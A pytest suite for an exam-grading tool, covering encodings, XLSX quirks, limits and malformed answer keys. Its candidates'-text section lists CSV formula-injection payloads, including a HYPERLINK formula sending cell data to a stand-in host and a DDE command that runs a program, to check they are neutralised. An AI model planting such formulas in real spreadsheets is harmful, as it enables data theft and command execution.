"""Grading real files without miscounting silently (issue 17 item 4): GBK/GB18030 问卷星 exports with ┋,
XLSX with a stale dimension or formulas without results, candidates' text that would be a formula in Excel
or markup in the terminal, limits, malformed key.json and exam.yml, outputs that would overwrite inputs, a
million rows under a memory cap, and bench measuring grade's own memory."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import pytest

from generator.cli import main
from generator.errors import SourceError
from generator.grading.answers import load_key, read_answers
from generator.grading.results import analyse, score_people

ROOT = Path(__file__).resolve().parent.parent
FIXTURES = Path(__file__).parent / "fixtures" / "answers"
KEY = FIXTURES / "key.json"
PLAIN_HEADER = "姓名,单位,卷型,1,2,3,4,5"
RIGHT_A = "B,A,ABC,错,15|书面"  # full marks (10) on variant A


def grade(tmp_path: Path, answers: Path, *extra: str) -> tuple[int, list[list[str]]]:
    out = tmp_path / "results.csv"
    code = main(["grade", str(KEY), str(answers), "--out", str(out), "--report", str(tmp_path / "report.html"),
                 *extra])
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")))) if code == 0 else []
    return code, rows


# ---- encodings ---------------------------------------------------------------------------------------------

@pytest.mark.parametrize("encoding", ["gbk", "gb18030"])
def test_wjx_export_saved_as_gbk_or_gb18030_with_the_multiple_choice_bar(tmp_path, encoding):
    text = (FIXTURES / "wjx-text.csv").read_text(encoding="utf-8")
    assert "┋" in text
    path = tmp_path / "wjx.csv"
    path.write_bytes(text.encode(encoding))
    code, rows = grade(tmp_path, path)
    assert code == 0
    assert {row[1]: row[4] for row in rows[1:]} == {"张三": "10", "李四": "4", "王五": "1"}


def test_a_file_in_no_known_encoding_is_refused_not_guessed(tmp_path, capsys):
    path = tmp_path / "bad.csv"
    path.write_bytes(PLAIN_HEADER.encode() + b"\n\xff\xfe\xfa\x80,A,B\n" * 3)
    assert main(["grade", str(KEY), str(path), "--out", str(tmp_path / "r.csv"),
                 "--report", str(tmp_path / "r.html")]) == 1
    assert "无法识别文件编码" in capsys.readouterr().err


def test_an_answer_sheet_in_gb18030_keeps_characters_gbk_lacks(tmp_path):
    """Names with 䶮 (U+4DAE) and 𠀀 (U+20000), which only GB18030 of the Chinese encodings holds."""
    path = tmp_path / "answers.csv"
    path.write_bytes(f"{PLAIN_HEADER}\n王䶮,信访局┋公安局,A,{RIGHT_A}\n李𠀀,信访局,B,B,A,ABC,错,15|书面\n"
                     .encode("gb18030"))
    code, rows = grade(tmp_path, path)
    assert code == 0
    assert [row[1:5] for row in rows[1:]] == [["王䶮", "信访局┋公安局", "A", "10"], ["李𠀀", "信访局", "B", "5"]]


def test_an_answer_sheet_in_no_known_encoding_stops_with_one_line(tmp_path):
    path = tmp_path / "answers.csv"
    path.write_bytes(f"{PLAIN_HEADER}\n张三,信访局,A,{RIGHT_A}\n".encode("gbk") + b"\xff\x80,x,A,B,A,ABC,x,15\n")
    result = subprocess.run([sys.executable, "-m", "generator", "grade", str(KEY), str(path),
                             "--out", str(tmp_path / "r.csv"), "--report", str(tmp_path / "r.html")],
                            cwd=tmp_path, capture_output=True, text=True, env={"PYTHONPATH": str(ROOT)})
    assert (result.returncode, result.stdout) == (1, "")
    assert result.stderr == ("answers.csv:3: 无法识别文件编码：这一行有 UTF-8 和 GBK/GB18030 都无法解码的字节"
                             "（支持 UTF-8、UTF-16、GBK/GB18030），请另存为 UTF-8 后再试\n")


# ---- XLSX --------------------------------------------------------------------------------------------------

def _xlsx(path: Path, rows: list[list]) -> None:
    from openpyxl import Workbook

    book = Workbook()
    for row in rows:
        book.active.append(row)
    book.save(path)


def _rewrite_sheet(path: Path, change) -> None:
    data = {}
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            data[name] = archive.read(name)
    data["xl/worksheets/sheet1.xml"] = change(data["xl/worksheets/sheet1.xml"].decode()).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in data.items():
            archive.writestr(name, content)


def test_xlsx_with_a_stale_dimension_grades_every_row(tmp_path):
    path = tmp_path / "answers.xlsx"
    _xlsx(path, [PLAIN_HEADER.split(","), *[[f"学员{i}", "信访局", "A", *RIGHT_A.split(",")] for i in range(50)]])
    _rewrite_sheet(path, lambda xml: re.sub(r'<dimension ref="[^"]*" ?/>', '<dimension ref="A1:X4"/>', xml))
    with zipfile.ZipFile(path) as archive:
        assert '<dimension ref="A1:X4"/>' in archive.read("xl/worksheets/sheet1.xml").decode()
    code, rows = grade(tmp_path, path)
    assert code == 0 and len(rows) == 1 + 50
    assert {row[4] for row in rows[1:]} == {"10"}


def test_formula_without_a_stored_result_is_reported_by_cell(tmp_path, capsys):
    path = tmp_path / "答题卡.xlsx"
    rows = [PLAIN_HEADER.split(","), *[[f"学员{i}", "信访局", "A", *RIGHT_A.split(",")] for i in range(3)]]
    rows.append(["学员9", "信访局", '=IF(1,"A","B")', *RIGHT_A.split(",")])  # row 5, column C
    _xlsx(path, rows)  # openpyxl stores formulas without results, as a program that never calculates does
    assert main(["grade", str(KEY), str(path), "--out", str(tmp_path / "r.csv"),
                 "--report", str(tmp_path / "r.html")]) == 1
    err = capsys.readouterr().err
    assert "答题卡.xlsx: 第 5 行 C 列：公式没有计算结果，请在 Excel 中打开并保存后再试" in err
    assert not (tmp_path / "r.csv").exists()


def test_a_zip_bomb_xlsx_stops_at_once(tmp_path, capsys, monkeypatch):
    from generator.grading import sheets

    monkeypatch.setattr(sheets, "MAX_XLSX_UNZIPPED", 10_000)
    path = tmp_path / "big.xlsx"
    _xlsx(path, [PLAIN_HEADER.split(","), *[[f"学员{i}", "信访局", "A", *RIGHT_A.split(",")] for i in range(500)]])
    assert main(["grade", str(KEY), str(path)]) == 1
    assert "Excel 文件解压后有" in capsys.readouterr().err


# ---- limits ------------------------------------------------------------------------------------------------

def test_a_header_of_100000_columns_is_refused_quickly(tmp_path, capsys):
    path = tmp_path / "wide.csv"
    path.write_text("姓名,卷型," + ",".join(str(i) for i in range(1, 100_001)) + "\n", encoding="utf-8")
    assert main(["grade", str(KEY), str(path)]) == 1
    assert "有 100,002 列，超过上限 1,000 列" in capsys.readouterr().err


def test_a_huge_cell_is_refused_with_its_line(tmp_path, capsys):
    path = tmp_path / "cell.csv"
    path.write_text(f"{PLAIN_HEADER}\n张三,信访局,A,{RIGHT_A}\n{'长' * 20_000},信访局,A,{RIGHT_A}\n", encoding="utf-8")
    assert main(["grade", str(KEY), str(path)]) == 1
    assert "cell.csv:3: 第 1 列的单元格超过 10,000 个字符" in capsys.readouterr().err


# ---- candidates' text --------------------------------------------------------------------------------------

INJECTIONS = ['=HYPERLINK("http://x.example/?q="&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
              "\t=1+1", "\r=1+1"]


def test_formula_like_names_are_text_in_results_csv(tmp_path):
    path = tmp_path / "a.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(PLAIN_HEADER.split(","))
        for index, text in enumerate(INJECTIONS):
            writer.writerow([text, f"单位{index}", "A", *RIGHT_A.split(",")])
        writer.writerow(["张三", "=1+2", "A", *RIGHT_A.split(",")])
    code, rows = grade(tmp_path, path)
    assert code == 0
    names = {row[1] for row in rows[1:]}
    assert names == {"'" + text.strip() for text in INJECTIONS} | {"张三"}  # cells are stripped on reading
    assert ["'=1+2"] == [row[2] for row in rows[1:] if row[1] == "张三"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_lint_csv_is_neutralised_too(tmp_path):
    bank = tmp_path / "题库.csv"
    bank.write_text("题型,题干,A,B,C,D,E,答案,出处\n单选,=HYPERLINK(\"x\")信访人一般应当采用（　）形式提出信访事项。,"
                    "书面,口头,电话,网络,,A,第十九条\n", encoding="utf-8")
    out = tmp_path / "lint.csv"
    main(["--root", str(ROOT), "lint", str(bank), "--format", "csv", "--out", str(out)])
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row)
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


@pytest.mark.parametrize("name", ["[/bold]张三", "[bold red]张三[/]", "[link=http://x.example]张三[/link]",
                                  "\x1b[31m张三\x1b[0m"])
def test_markup_and_escapes_in_names_print_as_plain_text(tmp_path, name):
    path = tmp_path / "a.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(PLAIN_HEADER.split(","))
        writer.writerow([name, "信访局", "A", *RIGHT_A.split(",")])
    result = subprocess.run([sys.executable, "-m", "generator", "grade", str(KEY), str(path),
                             "--out", str(tmp_path / "r.csv"), "--report", str(tmp_path / "r.html")],
                            capture_output=True, text=True, cwd=tmp_path, check=False,
                            env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin", "COLUMNS": "200",
                                 "FORCE_COLOR": "1", "TERM": "xterm-256color"})
    assert result.returncode == 0, result.stderr
    visible = re.sub(r"\x1b\[[0-9;]*m", "", result.stdout)  # rich's own colours
    assert name.replace("\x1b[31m", "").replace("\x1b[0m", "") in visible.replace("\x1b", "")
    assert "\x1b[31m张三" not in result.stdout and "\x1b]8;" not in result.stdout  # no red, no hyperlink


def test_eleven_digit_phone_numbers_and_leading_zeros_stay_text(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text(f"姓名,手机,工号,卷型,1,2,3,4,5\n张三,13800138000,0012345,A,{RIGHT_A}\n李四,12345,123,A,{RIGHT_A}\n",
                    encoding="utf-8")
    code, rows = grade(tmp_path, path)
    assert code == 0
    by_name = {row[1]: row for row in rows[1:]}
    assert by_name["张三"][2:4] == ['="13800138000"', '="0012345"']
    assert by_name["李四"][2:4] == ["12345", "123"]


def test_a_folder_given_as_the_answer_sheet_is_not_called_missing(tmp_path, capsys):
    """Review 3: a folder (or /dev/null) was reported as 找不到作答文件 though it exists."""
    assert main(["grade", str(KEY), str(tmp_path), "--out", str(tmp_path / "r.csv"),
                 "--report", str(tmp_path / "r.html")]) == 1
    err = capsys.readouterr().err
    assert "不是普通文件（是文件夹或设备）" in err and "找不到" not in err
    assert main(["grade", str(KEY), str(tmp_path / "nope.csv"), "--out", str(tmp_path / "r.csv"),
                 "--report", str(tmp_path / "r.html")]) == 1
    assert "找不到作答文件" in capsys.readouterr().err


def test_a_sheet_without_variant_column_for_a_two_variant_key_is_one_message(tmp_path, capsys):
    """Review 3: a 问卷星 export of one variant graded without --variant printed the same reason for every row,
    then 没有可计分的作答行."""
    answers = tmp_path / "a.csv"
    answers.write_text("姓名,1,2,3,4,5\n甲,B,A,ABC,错,15|书面\n乙,B,A,AB,对,15|口头\n", encoding="utf-8")
    assert main(["grade", str(KEY), str(answers), "--out", str(tmp_path / "r.csv"),
                 "--report", str(tmp_path / "r.html")]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "a.csv:1: 作答表没有“卷型”一列，而答案有 A、B 卷" in err[0] and "--variant A" in err[0], err
    assert main(["grade", str(KEY), str(answers), "--variant", "A", "--out", str(tmp_path / "r.csv"),
                 "--report", str(tmp_path / "r.html")]) == 0



def test_a_form_sent_twice_is_scored_once_and_named(tmp_path, capsys):
    """Reviewer: an identical row (a 问卷星 form submitted twice) was ranked and counted in the statistics
    twice. The same answers written another way are the same row; the same person answering differently, or
    two people without a name who agree (with or without a 单位), are not. (Fill cells count as written: 十五 is not 15 here.)"""
    answers = tmp_path / "a.csv"
    answers.write_text(f"{PLAIN_HEADER}\n张三,信访局,A,{RIGHT_A}\n李四,信访局,A,A,B,AB,对,1|口头\n"
                       f"张三,信访局,A,b,a,a c b,F,15|书面\n张三,信访局,A,A,B,AB,对,1|口头\n"
                       f",,A,{RIGHT_A}\n,,A,{RIGHT_A}\n,信访局,A,{RIGHT_A}\n,信访局,A,{RIGHT_A}\n", encoding="utf-8")
    code, rows = grade(tmp_path, answers)
    assert code == 0
    err = capsys.readouterr().err
    assert "a.csv:4: 与第 2 行的身份、卷型和作答完全相同（重复提交），本行未计分" in err
    assert err.count("重复提交") == 1
    assert [row[1] for row in rows[1:]].count("张三") == 2 and len(rows) == 1 + 7


def test_every_unreadable_cell_of_a_row_is_named_at_once(tmp_path, capsys):
    answers = tmp_path / "a.csv"
    answers.write_text(f"{PLAIN_HEADER}\n张三,信访局,A,E,A,ABX,嗯,15|书面\n", encoding="utf-8")
    assert grade(tmp_path, answers)[0] == 1
    err = capsys.readouterr().err
    assert ("a.csv:2: 第 1 题（第 4 列）“E”无法识别：应为 A–D 的字母；第 3 题（第 6 列）“ABX”无法识别：应为 A–D 的字母；"
            "第 4 题（第 7 列）“嗯”无法识别：判断题应填 对/错（或 √/×、T/F、正确/错误），本行未计分") in err

# ---- key.json and exam.yml ---------------------------------------------------------------------------------

def _key_with(change) -> str:
    data = json.loads(KEY.read_text(encoding="utf-8"))
    change(data)
    return json.dumps(data, ensure_ascii=False)


def _set(variant: str, index: int, field: str, value):
    def change(data):
        data["variants"][variant][index][field] = value
    return change


@pytest.mark.parametrize("text, reason", [
    (_key_with(_set("A", 0, "answer", "Z")), "A 卷第 1 题：答案“Z”无效（应为 A–D 中的一个字母）"),
    (_key_with(_set("A", 2, "answer", "AAB")), "A 卷第 3 题：答案“AAB”无效"),
    (_key_with(_set("A", 3, "answer", "maybe")), "A 卷第 4 题：判断题答案“maybe”无效（应为 对 或 错）"),
    (_key_with(_set("B", 0, "points", float("nan"))), "B 卷第 1 题：分值（points）应为有限的正数，实际为“nan”"),
    (_key_with(_set("A", 0, "points", float("inf"))), "分值（points）应为有限的正数"),
    (_key_with(_set("A", 0, "points", 0)), "分值（points）应为有限的正数，实际为“0”"),
    (_key_with(_set("A", 0, "points", 1e308)), "A 卷第 1 题：分值（points）不能超过 1000，实际为“1e+308”"),
    (_key_with(_set("A", 1, "type", "essay")), "A 卷第 2 题：题型“essay”无效"),
    (_key_with(_set("A", 4, "answer", "15")), "A 卷第 5 题：填空题答案应为每个空的可接受答案列表"),
    (_key_with(_set("B", 0, "id", "other")), "B 卷与 A 卷的题目不同，无法对照计分"),
    (_key_with(lambda data: data["variants"].update(A=[])), "A 卷没有题目"),
    ("[" * 100_000 + "]" * 100_000, "不是有效的 JSON"),
    ('{"variants": ' * 5000 + "1" + "}" * 5000, "不是 python -m generator exam 生成的答案文件"),
    ("{}", "缺少 variants"),
])
def test_malformed_key_json_is_one_clear_error(tmp_path, capsys, text, reason):
    key = tmp_path / "key.json"
    key.write_text(text, encoding="utf-8")
    assert main(["grade", str(key), str(FIXTURES / "plain.csv"), "--out", str(tmp_path / "r.csv"),
                 "--report", str(tmp_path / "r.html")]) == 1
    err = capsys.readouterr().err
    assert reason in err and "key.json" in err and "内部错误" not in err


@pytest.mark.parametrize("points, quota, reason", [
    ("{single: .nan, judge: 1}", "{single: 1, judge: 1}", "points 应为正数，实际为“.nan”"),
    ("{single: 2, judge: .inf}", "{single: 1, judge: 1}", "points 应为正数，实际为“.inf”"),
    ("{single: 2, judge: 1}", "{single: 0, judge: 0}", "quota 至少要抽 1 道题"),
    ("{single: 1.0e+308, judge: 1}", "{single: 1, judge: 1}", "points 不能超过 1000，实际为“1.0e+308”"),
])
def test_exam_yml_with_nan_points_or_an_empty_quota_fails_check(tmp_path, points, quota, reason):
    from generator.quiz.exam import load_exam

    path = tmp_path / "exam.yml"
    path.write_text(f"title: 模拟考试\nminutes: 60\nquota: {quota}\npoints: {points}\n", encoding="utf-8")
    errors: list[SourceError] = []
    load_exam(path, None, errors)
    assert any(reason in str(error) and "exam.yml" in str(error) for error in errors), errors


# ---- outputs -----------------------------------------------------------------------------------------------

@pytest.mark.parametrize("option", ["--out", "--report"])
def test_an_output_naming_an_input_is_refused(tmp_path, capsys, option):
    answers = tmp_path / "answers.csv"
    answers.write_bytes((FIXTURES / "plain.csv").read_bytes())
    before = answers.read_bytes()
    other = "--report" if option == "--out" else "--out"
    assert main(["grade", str(KEY), str(answers), option, str(answers), other, str(tmp_path / "x")]) == 2
    assert "就是作答文件，写出会覆盖它" in capsys.readouterr().err
    assert answers.read_bytes() == before


# ---- a million rows under a memory cap ---------------------------------------------------------------------

MEMORY_CAP_MB = 500


def test_a_million_rows_grade_under_a_memory_cap(tmp_path):
    """1,000,000 people (a 37 MB CSV; the same per-row memory holds a 200 MB file of a 100-question paper
    under the cap): grade runs in a child whose address space is capped, and finishes."""
    path = tmp_path / "million.csv"
    wrong = "A,B,AB,对,1|1"
    with path.open("w", encoding="utf-8", newline="") as handle:
        handle.write(PLAIN_HEADER + "\n")
        chunk = "".join(f"学员{i:07d},单位{i % 97},A,{RIGHT_A if i % 3 else wrong}\n" for i in range(1000))
        for block in range(1000):  # a million different people: identical rows would be one form sent twice
            handle.write(chunk.replace("学员", f"学员{block:03d}-"))
    script = textwrap.dedent(f"""
        import resource, sys
        cap = {MEMORY_CAP_MB} * 1024 * 1024
        resource.setrlimit(resource.RLIMIT_AS, (cap, cap))
        from generator.cli import main
        code = main(["grade", {str(KEY)!r}, {str(path)!r}, "--out", {str(tmp_path / "r.csv")!r},
                     "--report", {str(tmp_path / "r.html")!r}])
        print("PEAK", resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)
        sys.exit(code)
    """)
    result = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, cwd=ROOT,
                            timeout=600, check=False)
    assert result.returncode == 0, result.stderr[-2000:]
    assert "已计分 1000000 人" in result.stdout
    peak = int(re.search(r"PEAK (\d+)", result.stdout).group(1))
    assert peak < MEMORY_CAP_MB
    with (tmp_path / "r.csv").open(encoding="utf-8-sig") as handle:
        assert sum(1 for _ in handle) == 1 + 1_000_000


# ---- bench -------------------------------------------------------------------------------------------------

def test_bench_measures_each_child_on_its_own(tmp_path):
    from generator.grading.benchmark import measure

    big = measure([sys.executable, "-c", "x = bytearray(600 * 1024 * 1024); x[::4096] = b'1' * len(x[::4096])"],
                  tmp_path)
    small = measure([sys.executable, "-c", "pass"], tmp_path)
    # The small child after the big one reports its own peak, not the big one's (RUSAGE_CHILDREN would).
    # A child's figure starts at the size of the process that forked it, so compare with the big one.
    assert big[2] > 600 and small[2] < big[2] - 300
    with pytest.raises(RuntimeError, match="boom"):
        measure([sys.executable, "-c", "raise SystemExit('boom')"], tmp_path)


# ---- the public functions the classroom server calls keep working --------------------------------------------

def test_read_answers_score_people_analyse_still_work_on_lists():
    key = load_key(KEY)
    sheet = read_answers(FIXTURES / "plain.csv", key)
    results = analyse(key, score_people(key, sheet.responses))
    assert isinstance(sheet.responses, list) and isinstance(results.people, list)
    assert results.people[0].score == 10


def _as_excel_saves(path: Path) -> None:
    """Rewrite an openpyxl file (inline strings) the way Excel saves it: shared strings, one of them in
    rich-text runs, and a cell with a number format."""
    def shared(xml: str) -> str:
        strings: list[str] = []

        def replace(match):
            strings.append(match.group(2))
            return f'<c r="{match.group(1)}" t="s"><v>{len(strings) - 1}</v></c>'

        xml = re.sub(r'<c r="([A-Z]+\d+)" t="inlineStr"><is><t>([^<]*)</t></is></c>', replace, xml)
        items = "".join(f"<si><t>{text}</t></si>" if text != "张三" else "<si><r><t>张</t></r><r><t>三</t></r></si>"
                        for text in strings)
        shared.xml = ('<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
                      f'spreadsheetml/2006/main" count="{len(strings)}" uniqueCount="{len(strings)}">{items}</sst>')
        return xml

    _rewrite_sheet(path, shared)
    data = {}
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            data[name] = archive.read(name).decode()
    data["xl/sharedStrings.xml"] = shared.xml
    data["[Content_Types].xml"] = data["[Content_Types].xml"].replace(
        "</Types>", '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    data["xl/_rels/workbook.xml.rels"] = data["xl/_rels/workbook.xml.rels"].replace(
        "</Relationships>", '<Relationship Id="rIdSS" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in data.items():
            archive.writestr(name, content)


def test_xlsx_as_excel_saves_it_with_shared_strings(tmp_path):
    path = tmp_path / "excel.xlsx"
    _xlsx(path, [PLAIN_HEADER.split(","), ["张三", "信访局", "A", *RIGHT_A.split(",")],
                 ["李四", "信访局", "A", "B", "A", "ABC", "对", 15]])
    _as_excel_saves(path)
    with zipfile.ZipFile(path) as archive:
        assert 't="s"' in archive.read("xl/worksheets/sheet1.xml").decode()
    code, rows = grade(tmp_path, path)
    assert code == 0
    assert {row[1]: row[4] for row in rows[1:]} == {"张三": "10", "李四": "7"}  # 15 alone: one blank of two
